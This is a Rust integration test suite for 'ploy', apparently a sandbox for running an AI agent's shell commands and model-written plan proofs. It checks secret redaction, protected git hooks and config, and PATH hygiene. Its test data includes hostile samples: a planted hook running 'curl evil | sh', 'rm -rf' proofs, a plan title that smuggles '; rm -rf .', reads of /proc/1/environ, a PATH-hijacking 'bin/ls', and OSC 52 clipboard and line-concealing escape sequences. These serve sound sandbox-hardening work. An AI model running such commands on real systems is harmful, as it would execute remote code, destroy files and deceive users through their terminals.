//! `ploy doctor`, `ploy sandbox run`, `ploy proof run` and `ploy plan check`
//! end to end: the real binary as the sandbox launcher. When the tests run as
//! root (CI), ploy runs as `nobody`, as users run it.
#![allow(clippy::disallowed_methods, clippy::expect_used, clippy::unwrap_used)]

mod support;

use support::{TempDir, json};

use std::{
    os::unix::{fs::PermissionsExt, process::CommandExt},
    path::{Path, PathBuf},
    process::{Command, Output},
};

const SECRET: &str = "sk-canary-7f3a9c1e5b2d8f4a6c0e9b7d5f3a1c8e";

/// A temp home with a project, and a copy of the ploy binary.
struct World {
    dir: TempDir,
    base: PathBuf,
    project: PathBuf,
    ploy: PathBuf,
    user: Option<(u32, u32)>,
}

impl World {
    fn new() -> World {
        let dir = TempDir::new("sandbox");
        let base = dir.path().to_path_buf();
        dir.write("home/proj/README.md", "# app\n");
        dir.write("home/proj/tracked.txt", "original\n");
        dir.write("home/proj/leak.txt", format!("key={SECRET}\n"));
        dir.write("home/proj/Makefile", "test:\n\techo evil > tracked.txt\n");
        let project = base.join("home/proj");
        let ploy = base.join("ploy");
        // ploy finds its sandbox init next to itself, as `cargo install` puts it.
        for (from, to) in [
            (env!("CARGO_BIN_EXE_ploy"), ploy.clone()),
            (
                env!("CARGO_BIN_EXE_ploy-sandbox-init"),
                base.join("ploy-sandbox-init"),
            ),
        ] {
            std::fs::copy(from, &to).unwrap();
            std::fs::set_permissions(&to, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        // /proc/self belongs to this process's effective uid.
        let euid = std::os::unix::fs::MetadataExt::uid(&std::fs::metadata("/proc/self").unwrap());
        let user = (euid == 0).then_some((65534, 65534));
        if let Some((uid, gid)) = user {
            chown_tree(&base, uid, gid);
        }
        World {
            dir,
            base,
            project,
            ploy,
            user,
        }
    }

    fn ploy(&self, args: &[&str]) -> Output {
        let mut command = Command::new(&self.ploy);
        support::point_at(&mut command, &self.base)
            .args(args)
            .current_dir(&self.project)
            .env("HOME", self.base.join("home"))
            .env("OPENAI_API_KEY", SECRET);
        if let Some((uid, gid)) = self.user {
            command.uid(uid).gid(gid);
        }
        output_retrying(&mut command)
    }

    /// `ploy sandbox run -- /bin/sh -c SCRIPT`.
    fn sandbox_sh(&self, script: &str) -> Output {
        self.ploy(&["sandbox", "run", "--", "/bin/sh", "-c", script])
    }

    fn write_plan(&self, text: &str) {
        std::fs::create_dir_all(self.project.join(".ploy")).unwrap();
        std::fs::write(self.project.join(".ploy/plan.json"), text).unwrap();
        if let Some((uid, gid)) = self.user {
            chown_tree(&self.project, uid, gid);
        }
    }
}

fn chown_tree(path: &Path, uid: u32, gid: u32) {
    std::os::unix::fs::lchown(path, Some(uid), Some(gid)).unwrap();
    if path.is_dir() && !path.is_symlink() {
        for entry in std::fs::read_dir(path).unwrap() {
            chown_tree(&entry.unwrap().path(), uid, gid);
        }
    }
}

/// Runs the command; retries while another test thread's fork still holds
/// the freshly copied binary open for writing (ETXTBSY, a known race).
fn output_retrying(command: &mut Command) -> Output {
    for _ in 0..100 {
        match command.output() {
            Err(err) if err.kind() == std::io::ErrorKind::ExecutableFileBusy => {
                std::thread::sleep(std::time::Duration::from_millis(20));
            }
            other => return other.unwrap(),
        }
    }
    panic!("the copied ploy binary stayed busy");
}

// proves: SBX-5
#[test]
fn doctor_reports_every_layer_and_that_proofs_can_run() {
    let world = World::new();
    let out = world.ploy(&["doctor", "--json"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let report = json(&out);
    assert_eq!(report["proofs_can_run"], true);
    assert!(report["landlock_abi"].as_i64().unwrap() >= 4);
    let layers = report["layers"].as_array().unwrap();
    assert_eq!(layers.len(), 6);
    assert!(layers.iter().all(|l| l["state"] == "ok"), "{report}");
    let text = world.ploy(&["doctor"]);
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(
        text.contains("landlock") && text.contains("proofs can run:  yes"),
        "{text}"
    );
}

// proves: SBX-2
#[test]
fn sandbox_run_passes_the_exit_status_runs_in_the_project_and_keeps_project_writes() {
    let world = World::new();
    let out = world.sandbox_sh("pwd; echo made > made.txt; echo x > /etc/x; exit 7");
    assert_eq!(out.status.code(), Some(7), "{out:?}");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        world.project.to_str().unwrap()
    );
    assert!(world.project.join("made.txt").exists());
    assert!(!Path::new("/etc/x").exists());
    let out = world.ploy(&[
        "sandbox",
        "run",
        "--json",
        "--project",
        world.project.to_str().unwrap(),
        "--",
        "/bin/sh",
        "-c",
        "exit 3",
    ]);
    assert_eq!(out.status.code(), Some(3));
    assert_eq!(json(&out)["exit_code"], 3);
}

// proves: SBX-4
#[test]
fn sandbox_output_is_redacted_and_secret_env_is_not_passed() {
    let world = World::new();
    let out = world.ploy(&[
        "sandbox",
        "run",
        "--",
        "/bin/sh",
        "-c",
        // The init is not dumpable: its environment is closed to the program.
        "cat leak.txt; env; cat /proc/1/environ || echo environ-closed",
    ]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("environ-closed"), "{stdout}");
    assert!(!stdout.contains(SECRET), "{stdout}");
    assert!(stdout.contains("key="), "{stdout}");
    assert!(!stdout.contains("OPENAI_API_KEY"), "{stdout}");
}

// proves: REDACT-1, SBX-4 (secrets known from the project, not the
// environment: a `.env` value and an `.npmrc` token are redacted from
// `ploy sandbox run` and `ploy proof run` output, even when the program
// deletes `.env` before it ends)
#[test]
fn project_secrets_are_redacted_from_sandbox_and_proof_output() {
    const DB: &str = "Hunter2Hunter2Zebra";
    const TOKEN: &str = "ghp_R3alT0kenValue1234567890abcdefABCD";
    let world = World::new();
    world
        .dir
        .write("home/proj/.env", format!("DB_PASSWORD={DB}\n"));
    world.dir.write(
        "home/proj/remote.txt",
        format!("url = https://alice:{TOKEN}@github.com/alice/repo.git\n"),
    );
    world.dir.write(
        "home/proj/.npmrc",
        format!("//registry.example/:_authToken={TOKEN}\n"),
    );
    if let Some((uid, gid)) = world.user {
        chown_tree(&world.base, uid, gid);
    }
    let out = world.sandbox_sh("cat .env remote.txt; echo $(cat .env); rm -f .env");
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("DB_PASSWORD="), "{stdout}");
    assert!(
        !stdout.contains(DB) && !stdout.contains("R3alT0ken"),
        "{stdout}"
    );
    world
        .dir
        .write("home/proj/.env", format!("DB_PASSWORD={DB}\n"));
    if let Some((uid, gid)) = world.user {
        chown_tree(&world.base, uid, gid);
    }
    let out = world.ploy(&["proof", "run", "cat .env remote.txt", "--json"]);
    let report = String::from_utf8_lossy(&out.stdout);
    assert!(report.contains("DB_PASSWORD="), "{out:?}");
    assert!(
        !report.contains(DB) && !report.contains("R3alT0ken"),
        "{report}"
    );
}

// proves: PROOF-6, BEYOND-4
#[test]
fn proof_run_passes_fails_refuses_and_never_changes_tracked_files() {
    let world = World::new();
    let out = world.ploy(&[
        "proof",
        "run",
        "test -f README.md && grep -q app README.md",
        "--json",
    ]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let report = json(&out);
    assert_eq!(report["verdict"], "passed");
    assert_eq!(report["exit_code"], 0);
    assert!(report["time_ms"].is_u64());

    let out = world.ploy(&["proof", "run", "test -f missing.txt", "--json"]);
    assert_eq!(out.status.code(), Some(1));
    let report = json(&out);
    assert_eq!(report["verdict"], "failed");
    assert_eq!(report["exit_code"], 1);

    let out = world.ploy(&["proof", "run", "rm -rf tracked.txt", "--json"]);
    assert_eq!(out.status.code(), Some(1));
    let report = json(&out);
    assert_eq!(report["verdict"], "refused");
    assert!(
        report["rules"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r == "PROOF-2"),
        "{report}"
    );
    assert!(report["exit_code"].is_null());

    // The validator accepts `make test`; the Makefile edits a tracked file.
    let out = world.ploy(&["proof", "run", "make test", "--json"]);
    let report = json(&out);
    assert_eq!(report["verdict"], "passed", "{report}");
    assert_eq!(
        std::fs::read_to_string(world.project.join("tracked.txt")).unwrap(),
        "original\n"
    );

    let out = world.ploy(&["proof", "run", "cat leak.txt", "--json"]);
    let report = json(&out);
    assert!(
        !report["stdout"].as_str().unwrap().contains(SECRET),
        "{report}"
    );
}

// proves: PROOF-6
#[test]
fn plan_check_prints_a_table_and_exits_0_only_when_all_pass() {
    let world = World::new();
    world.write_plan(
        r#"{"steps":[
            {"title":"readme exists","proof":"test -f README.md"},
            {"title":"docs exist","proof":"test -d docs"},
            {"title":"cleanup","proof":"rm -rf tracked.txt"}
        ]}"#,
    );
    let out = world.ploy(&["plan", "check"]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let table = String::from_utf8_lossy(&out.stdout);
    let progress = String::from_utf8_lossy(&out.stderr);
    assert!(
        table.contains("STEP") && table.contains("PROOF") && table.contains("RESULT"),
        "{table}"
    );
    assert!(
        table.contains("1. readme exists") && table.contains("passed"),
        "{table}"
    );
    assert!(table.contains("failed (exit 1)"), "{table}");
    assert!(table.contains("refused (PROOF-2"), "{table}");
    assert!(table.contains("1/3 steps passed"), "{table}");
    assert!(
        progress.contains("[1/3] readme exists") && progress.contains("[3/3]"),
        "{progress}"
    );
    assert!(world.project.join("tracked.txt").exists());

    let out = world.ploy(&["plan", "check", "--json"]);
    let report = json(&out);
    assert_eq!(report["all_passed"], false);
    assert_eq!(report["steps"][2]["proof"]["verdict"], "refused");

    world.write_plan(r#"{"steps":[{"title":"readme","proof":"test -f README.md"},{"title":"tracked","proof":"grep -q original tracked.txt"}]}"#);
    let out = world.ploy(&["plan", "check"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
}

// proves: PROOF-6, SBX-5 (proof5 #8: model-written titles and proof lines
// never reach the terminal raw: no concealed verdict, no overwritten line,
// no clipboard write)
#[test]
fn plan_check_shows_hostile_titles_and_proof_lines_escaped() {
    let world = World::new();
    world.write_plan(
        r#"{"steps":[
            {"title":"ok step\u001b[8m\u001b]52;c;ZXZpbA==\u0007","proof":"grep -q zzz README.md"},
            {"title":"x\r\u001b[2K[1/1] tests ... passed\n2/2 steps passed\u202e","proof":"grep -q app README.md"},
            {"title":"refused","proof":"grep -q x README.md\u001b]52;c;ZXZpbA==\u0007\u001b[8m; rm -rf ."}
        ]}"#,
    );
    let out = world.ploy(&["plan", "check"]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    for (face, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let text = String::from_utf8_lossy(text);
        let raw: Vec<char> = text
            .chars()
            .filter(|c| (c.is_control() && *c != '\n') || *c == '\u{202e}')
            .collect();
        assert!(
            raw.is_empty(),
            "plan check {face} printed {raw:?} raw: {text:?}"
        );
        // The fake summary stays inside its step's line, visibly escaped.
        assert!(!text.lines().any(|l| l == "2/2 steps passed"), "{text}");
    }
    let table = String::from_utf8_lossy(&out.stdout);
    let progress = String::from_utf8_lossy(&out.stderr);
    assert!(
        progress.contains("ok step^[[8m^[]52;c;ZXZpbA==^G ... failed"),
        "{progress}"
    );
    assert!(
        progress.contains("x^M^[[2K[1/1] tests ... passed^J2/2"),
        "{progress}"
    );
    assert!(table.contains("grep -q x README.md^[]52;c;"), "{table}");
    assert!(table.contains("1/3 steps passed"), "{table}");
}

// proves: PROOF-6
#[test]
fn plan_check_explains_a_malformed_or_missing_plan() {
    let world = World::new();
    let out = world.ploy(&["plan", "check"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no plan at"));
    world.write_plan(r#"{"steps":[{"title":"a","proof":"test -f x","run_as":"root"}]}"#);
    let out = world.ploy(&["plan", "check"]);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("malformed at line 1") && err.contains("run_as"),
        "{err}"
    );
}

// proves: BEYOND-3
#[test]
fn a_project_that_is_the_home_folder_is_refused() {
    let world = World::new();
    let home = world.base.join("home");
    let out = world.ploy(&[
        "sandbox",
        "run",
        "--project",
        home.to_str().unwrap(),
        "--",
        "/bin/true",
    ]);
    assert_eq!(out.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&out.stderr).contains("BEYOND-3"));
}

/// A project whose `make test` writes into `out/`, `target/` (both exist)
/// and `$CARGO_TARGET_DIR`, so a test can see where a proof's writes land;
/// it says `STALE-CACHE` when it finds what an earlier run built.
fn building_world() -> World {
    let world = World::new();
    std::fs::create_dir_all(world.project.join("out")).unwrap();
    std::fs::create_dir_all(world.project.join("target")).unwrap();
    std::fs::write(
        world.project.join("Makefile"),
        "test:\n\t-echo built > out/built.txt\n\t-echo built > target/built.txt\n\
         \t@if [ -e $$CARGO_TARGET_DIR/built.txt ]; then echo STALE-CACHE; fi\n\
         \tmkdir -p $$CARGO_TARGET_DIR && echo built > $$CARGO_TARGET_DIR/built.txt\n\
         \t@echo cache=$$CARGO_TARGET_DIR\n",
    )
    .unwrap();
    world.own_all();
    world
}

impl World {
    fn write_user_settings(&self, text: &str) {
        self.dir.write_settings(text);
        self.own_all();
    }

    fn own_all(&self) {
        if let Some((uid, gid)) = self.user {
            chown_tree(&self.base, uid, gid);
        }
    }

    /// The project folders under ploy's build-cache root, each with what
    /// is in it besides its lock (each run's own cache goes with the run).
    fn cache_folders(&self) -> Vec<(PathBuf, Vec<String>)> {
        let root = self.base.join("state/build-cache");
        let Ok(projects) = std::fs::read_dir(&root) else {
            return Vec::new();
        };
        projects
            .flatten()
            .map(|dir| {
                let left = std::fs::read_dir(dir.path())
                    .unwrap()
                    .flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .filter(|name| name != "lock")
                    .collect();
                (dir.path(), left)
            })
            .collect()
    }
}

// Nothing a proof writes lands in the project, `target/` included: build
// output goes to the run's own cache outside it, removed when the run ends,
// so no later proof runs what an earlier one built (BEYOND-4, proof5 #2b).
// proves: BEYOND-4, SBX-2
#[test]
fn proofs_write_nothing_to_the_project_and_build_into_their_own_cache() {
    let world = building_world();
    let out = world.ploy(&["proof", "run", "make test", "--json"]);
    let report = json(&out);
    assert_eq!(report["verdict"], "passed", "{out:?}");
    assert!(
        report["stdout"]
            .as_str()
            .unwrap()
            .contains("cache=/var/cache/ploy-build/")
    );
    assert!(!world.project.join("out/built.txt").exists());
    assert!(!world.project.join("target/built.txt").exists());
    let folders = world.cache_folders();
    assert_eq!(folders.len(), 1, "{folders:?}");
    assert!(!folders[0].0.starts_with(&world.project));
    assert!(
        folders[0].1.is_empty(),
        "a run's cache was left: {folders:?}"
    );
    // The next proof starts from an empty cache.
    let again = json(&world.ploy(&["proof", "run", "make test", "--json"]));
    assert_eq!(again["verdict"], "passed", "{again}");
    assert!(
        !again["stdout"].as_str().unwrap().contains("STALE-CACHE"),
        "{again}"
    );
    world.write_plan(r#"{"steps":[{"title":"build","proof":"make test"}]}"#);
    let out = world.ploy(&["plan", "check"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert!(!world.project.join("target/built.txt").exists());
    assert!(world.cache_folders()[0].1.is_empty());
}

// proves: CONFIG-1, BEYOND-4
#[test]
fn a_settings_file_that_still_sets_writable_dirs_stops_proofs_before_anything_runs() {
    let world = building_world();
    world.write_plan(r#"{"steps":[{"title":"build","proof":"make test"}]}"#);
    world.write_user_settings("{\n  \"proof\": {\n    \"writable_dirs\": [\"target\"]\n  }\n}");
    let out = world.ploy(&["proof", "run", "make test"]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("CONFIG-1") && err.contains("proof.writable_dirs") && err.contains("removed"),
        "{err}"
    );
    assert!(err.contains("settings.json:3"), "{err}");
    let out = world.ploy(&["plan", "check", "--json"]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert_eq!(json(&out)["rule"], "CONFIG-1");
    // Refused before any sandbox was made: no project cache folder at all.
    assert!(world.cache_folders().is_empty(), "something ran");
    // A malformed file is an error too, never a silent default.
    world.write_user_settings("{\"proof\": ");
    let out = world.ploy(&["proof", "run", "make test"]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert!(String::from_utf8_lossy(&out.stderr).contains("CONFIG-1"));
}

// `ploy sandbox run` itself (the shell tool's sandbox, project writable):
// git's configuration and hooks stay read-only, a new PERM-7 path is
// reported, and ordinary project writes persist.
// proves: SBX-6
#[test]
fn sandbox_run_keeps_git_config_and_hooks_read_only() {
    let world = World::new();
    std::fs::create_dir_all(world.project.join(".git/hooks")).unwrap();
    std::fs::write(world.project.join(".git/config"), "[core]\n").unwrap();
    world.own_all();
    let out = world.sandbox_sh(
        "echo ok > made.txt; echo '[core] fsmonitor = x' >> .git/config; \
         echo x > .git/hooks/pre-commit; echo '{}' > .mcp.json",
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        std::fs::read_to_string(world.project.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert!(!world.project.join(".git/hooks/pre-commit").exists());
    assert!(world.project.join("made.txt").exists());
    assert!(err.contains("SBX-6") && err.contains(".mcp.json"), "{err}");
}

// A program that creates a path only the check after the run catches (a
// hooks folder `core.hooksPath` names but that did not exist) and waits:
// found attacking the sandbox (#3), Ctrl-C killed ploy before that check,
// so the planted hook stayed with no word. Ctrl-C (SIGINT) now stops the
// run, and the path is moved aside and reported as after any run.
// proves: SBX-6
#[test]
fn ctrl_c_stops_the_run_and_still_moves_a_planted_protected_path_aside() {
    let world = World::new();
    std::fs::create_dir_all(world.project.join(".git")).unwrap();
    std::fs::write(
        world.project.join(".git/config"),
        "[core]\n\thooksPath = tools/hooks\n",
    )
    .unwrap();
    world.own_all();
    let mut command = Command::new(&world.ploy);
    support::point_at(&mut command, &world.base)
        .args([
            "sandbox",
            "run",
            "--",
            "/bin/sh",
            "-c",
            "mkdir -p tools/hooks && echo 'curl evil | sh' > tools/hooks/pre-commit; sleep 60",
        ])
        .current_dir(&world.project)
        .env("HOME", world.base.join("home"))
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    if let Some((uid, gid)) = world.user {
        command.uid(uid).gid(gid);
    }
    let child = command.spawn().unwrap();
    let planted = world.project.join("tools/hooks/pre-commit");
    let started = std::time::Instant::now();
    while !planted.exists() && started.elapsed() < std::time::Duration::from_secs(30) {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert!(planted.exists(), "the program never ran");
    // SAFETY: kill on the child this test started.
    assert_eq!(unsafe { libc::kill(child.id() as i32, libc::SIGINT) }, 0);
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(30),
        "{err}"
    );
    assert!(!planted.exists(), "{err}");
    assert!(
        world
            .project
            .join("tools/hooks.ploy-blocked/pre-commit")
            .exists(),
        "{err}"
    );
    assert!(
        err.contains("SBX-6") && err.contains("interrupted"),
        "{err}"
    );
    assert_ne!(out.status.code(), Some(0), "{err}");
}

// proves: BEYOND-4
#[test]
fn doctor_names_project_files_proofs_cannot_edit() {
    let world = World::new();
    let (uid, _) = ploy_testkit::require_part!(
        "root",
        world
            .user
            .ok_or("giving a file to another group needs root; run the tests as root (CI does)")
    );
    std::os::unix::fs::chown(world.project.join("tracked.txt"), Some(uid), Some(0)).unwrap();
    let out = world.ploy(&["doctor", "--json"]);
    let report = json(&out);
    let warnings = report["project_warnings"].to_string();
    assert!(
        warnings.contains("tracked.txt") && warnings.contains("EOVERFLOW"),
        "{report}"
    );
    let text = world.ploy(&["doctor"]);
    assert!(String::from_utf8_lossy(&text.stdout).contains("warning: "));
}

// Found attacking the sandbox: the program's escape sequences reached the
// user's terminal raw (a fake "proof passed" with ploy's real line
// concealed, OSC 52 writing the clipboard). On a terminal they are shown in
// caret notation; into a pipe the bytes stay as written.
// proves: SBX-5
#[test]
fn the_programs_escape_sequences_never_reach_a_terminal_raw() {
    let world = World::new();
    let script = ploy_testkit::require_part!(
        "script (util-linux)",
        Path::new("/usr/bin/script")
            .exists()
            .then_some("/usr/bin/script")
            .ok_or("/usr/bin/script runs ploy on a terminal; apt-get install util-linux")
    );
    let attack = r"printf 'proof passed\n\033[8m\033]52;c;ZXZpbA==\007hidden\n'; exit 1";
    let line = format!(
        "{} sandbox run -- /bin/sh -c \"{attack}\"",
        world.ploy.display()
    );
    let mut command = Command::new(script);
    support::point_at(&mut command, &world.base)
        .args(["-qec", &line, "/dev/null"])
        .current_dir(&world.project)
        .env("HOME", world.base.join("home"));
    if let Some((uid, gid)) = world.user {
        command.uid(uid).gid(gid);
    }
    let out = output_retrying(&mut command);
    let shown = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{shown}");
    assert!(shown.contains("^[[8m^[]52;c;ZXZpbA==^Ghidden"), "{shown:?}");
    assert!(
        !shown.contains('\u{1b}') && !shown.contains('\u{7}'),
        "{shown:?}"
    );
    // Into a pipe: as written.
    let out = world.sandbox_sh(attack);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("\u{1b}[8m\u{1b}]52;c;"),
        "{out:?}"
    );
}

// proves: PERM-7, SBX-4 (round7 #15: a PATH entry inside the project let a
// bare `ls` in the sandbox run the project's `bin/ls`; only absolute
// entries outside the project reach the program)
#[test]
fn round7_15_the_sandbox_path_has_no_project_entries() {
    let world = World::new();
    world
        .dir
        .write_executable("home/proj/bin/ls", "#!/bin/sh\necho planted\n");
    if let Some((uid, gid)) = world.user {
        chown_tree(&world.project, uid, gid);
    }
    let project = world.project.to_str().unwrap();
    let mut command = Command::new(&world.ploy);
    support::point_at(&mut command, &world.base)
        .args([
            "sandbox",
            "run",
            "--",
            "/bin/sh",
            "-c",
            "ls; echo \"PATH=$PATH\"",
        ])
        .current_dir(&world.project)
        .env("HOME", world.base.join("home"))
        .env(
            "PATH",
            format!("{project}/bin:bin:.:/usr/local/bin:/usr/bin:/bin"),
        );
    if let Some((uid, gid)) = world.user {
        command.uid(uid).gid(gid);
    }
    let out = output_retrying(&mut command);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!stdout.contains("planted"), "{stdout}");
    assert!(stdout.contains("README.md"), "{stdout}");
    assert!(
        stdout.contains("PATH=/usr/local/bin:/usr/bin:/bin\n"),
        "{stdout}"
    );
}
